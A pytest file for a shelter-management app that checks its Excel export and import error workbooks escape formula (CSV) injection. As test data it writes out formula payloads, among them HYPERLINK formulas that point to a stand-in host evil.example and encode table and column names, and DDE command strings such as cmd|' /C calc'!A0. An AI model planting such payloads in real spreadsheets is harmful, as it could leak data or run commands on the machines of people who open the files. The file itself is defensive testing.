"""No text typed by a user becomes a spreadsheet formula: every free-text field of the
export, and the cells and headers of the import's error workbook, are written escaped
(OWASP "CSV Injection": = + - @ and tab / carriage-return prefixes)."""

from __future__ import annotations

from albergue_sync import dbapi as sqlite3
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook
from reports_world import DAY, TZ, health_actor, member, world  # noqa: F401

from albergue_desktop.reports.excel_export import export_workbook
from albergue_desktop.reports.excel_import import (confirm_import, preview_import, read_sheet,
                                                   write_error_report)
from albergue_desktop.reports.xlsx import safe_text
from albergue_desktop.services import people
from albergue_desktop.services.context import SYSTEM
from albergue_desktop.storage.tables import IdentityDocumentBase

PREFIXES = ["=", "+", "-", "@", "\t=", "\r="]

# (table, column, sheet, header): every free-text field the supervisor's workbook shows.
FIELDS = [
    ("center", "code", "Centros", "Código"),
    ("center", "name", "Centros", "Nombre"),
    ("center", "city_prefix", "Centros", "Prefijo de folio"),
    ("center", "address", "Centros", "Dirección"),
    ("household", "address", "Núcleos", "Dirección"),
    ("household", "notes", "Núcleos", "Notas"),
    ("person", "folio", "Personas", "Folio"),
    ("person", "given_names", "Personas", "Nombres"),
    ("person", "surnames", "Personas", "Apellidos"),
    ("person", "document_name", "Personas", "Nombre en el documento"),
    ("person", "phone", "Personas", "Teléfono"),
    ("person", "curp", "Personas", "CURP"),
    ("person", "rfc", "Personas", "RFC"),
    ("identity_document", "number", "Documentos", "Número"),
    ("stay", "destination", "Estancias", "Destino"),
    ("stay", "notes", "Estancias", "Notas"),
    ("area", "name", "Estancias", "Área"),
    ("bed", "code", "Estancias", "Cama"),
    ("bed", "block_reason", "Camas", "Ocupante o estado"),
    ("vaccination", "vaccine", "Vacunas", "Vacuna"),
    ("vaccination", "brand", "Vacunas", "Marca"),
    ("vaccination", "lot", "Vacunas", "Lote"),
    ("vaccination", "place", "Vacunas", "Lugar"),
]


def payload(prefix: str, table: str, column: str) -> str:
    """The start of the formula put in ``table.column``; the row id and the end follow."""
    return f'{prefix}HYPERLINK("http://evil.example/?{table}.{column}.'


def _set(conn, prefix, table, column) -> None:
    # unique columns (codes, folios) stay unique: the row id is part of the text
    conn.execute(f"UPDATE {table} SET {column} = ? || rowid || '\",\"x\")'",
                 (payload(prefix, table, column),))


@pytest.fixture
def documented(db, world):  # noqa: F811
    """The world plus one person with a passport (the Documents sheet has a row)."""
    people.register_household(db, SYSTEM, center_id=world.c3.id, members=[member(
        "Nadège", "Paul", "F", date(1991, 3, 3),
        documents=[IdentityDocumentBase(doc_type="passport", number="PP123456")])])
    return world


def _poison(db, prefix: str) -> None:
    """Every free-text column of every row holds a formula (written with sqlite, as a
    tampered or imported file could hold it)."""
    conn = sqlite3.connect(db.path)
    try:
        for table, column, _sheet, _header in FIELDS:
            _set(conn, prefix, table, column)
        conn.commit()
    finally:
        conn.close()


def _all_cells(path):
    wb = load_workbook(path)  # not read-only: data_type is the stored type
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield ws.title, row


def _assert_no_formula(path):
    for title, row in _all_cells(path):
        for cell in row:
            assert cell.data_type != "f", (title, cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), \
                    (title, cell.coordinate, cell.value)


@pytest.fixture(params=PREFIXES, ids=repr)
def poisoned_export(request, db, documented, health_actor, tmp_path):  # noqa: F811
    _poison(db, request.param)
    out = export_workbook(db, health_actor, tmp_path / "albergue.xlsx", day=DAY, tz=TZ)
    return request.param, out


def test_no_cell_of_the_export_is_a_formula(poisoned_export):
    _prefix, out = poisoned_export
    _assert_no_formula(out)


@pytest.mark.parametrize("table,column,sheet,header", FIELDS,
                         ids=[f"{t}.{c}" for t, c, _s, _h in FIELDS])
def test_each_exported_text_field_is_escaped(db, documented, health_actor, tmp_path,
                                              table, column, sheet, header):
    conn = sqlite3.connect(db.path)
    _set(conn, "=", table, column)
    conn.commit()
    conn.close()
    out = export_workbook(db, health_actor, tmp_path / "albergue.xlsx", day=DAY, tz=TZ)
    ws = load_workbook(out)[sheet]
    head = [c.value for c in ws[1]]
    index = head.index(header)
    cells = [row[index] for row in ws.iter_rows(min_row=2)]
    wanted = payload("=", table, column)
    hits = [c for c in cells if isinstance(c.value, str) and wanted in c.value]
    assert hits, f"{table}.{column} not found in {sheet}/{header}"
    for c in hits:  # escaped, or inside a longer text ("BLOQUEADA — =...")
        assert c.data_type == "s" and not c.value.startswith(wanted), c.value
        assert c.value.startswith("'" + wanted) or c.value.index(wanted) > 0, c.value
    _assert_no_formula(out)


def test_phone_numbers_and_plain_text_are_left_as_typed():
    assert safe_text("+52 686 555 0101") == "+52 686 555 0101"
    assert safe_text("-5") == "-5"
    assert safe_text("Marie-Claude") == "Marie-Claude"
    assert safe_text("") == ""
    assert safe_text(None) is None and safe_text(7) == 7
    assert safe_text("+52 686 555 0101+cmd|' /C calc'!A0").startswith("'+")
    assert safe_text("-2+3+cmd|' /C calc'!A0").startswith("'-")
    assert safe_text("@SUM(A1:A2)") == "'@SUM(A1:A2)"
    assert safe_text("\t=1+1") == "'\t=1+1"
    assert safe_text("\r=1+1") == "'\r=1+1"


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_the_error_workbook_escapes_cells_and_headers(db, center, tmp_path, prefix):
    src = tmp_path / "censo.xlsx"
    wb = Workbook()
    ws = wb.active
    ws.append(["Nombre", "Apellidos", "Sexo", "Fecha de nacimiento", f"{prefix}1+1"])
    ws.append([f"{prefix}cmd|' /C calc'!A0", "Joseph", "X", "01/01/1990", "nota"])
    ws.append(["Ana", f"{prefix}SUM(1,2)", "Z", "no es fecha", f"{prefix}A1"])
    for row in ws.iter_rows():
        for cell in row:
            cell.data_type = "s"  # text cells, as a census typed by hand holds them
    wb.save(src)
    sheet = read_sheet(src)
    preview = preview_import(db, SYSTEM, sheet, center_id=center.id)
    groups, left_out = preview.plan()
    assert len(left_out) == 2
    out = write_error_report(preview, left_out, tmp_path / "errores.xlsx")
    _assert_no_formula(out)
    # XML reads a carriage return back as a line feed
    values = [c.value.replace("\r", "\n") if isinstance(c.value, str) else c.value
              for _t, row in _all_cells(out) for c in row]
    prefix = prefix.replace("\r", "\n")
    assert f"'{prefix}cmd|' /C calc'!A0" in values
    # headers are stripped when read: "\t=1+1" comes back as "=1+1", still escaped
    assert f"'{prefix}1+1" in values or "'=1+1" in values


def test_confirm_import_error_report_has_no_formula(db, center, tmp_path):
    src = tmp_path / "censo.xlsx"
    wb = Workbook()
    wb.active.append(["Nombre", "Apellidos", "Sexo", "Fecha de nacimiento"])
    wb.active.append(["=1+1", "@x", "X", "=2+2"])
    wb.save(src)
    preview = preview_import(db, SYSTEM, read_sheet(src), center_id=center.id)
    result = confirm_import(db, SYSTEM, preview, error_report=tmp_path / "e.xlsx")
    assert result.error_report is not None
    _assert_no_formula(result.error_report)
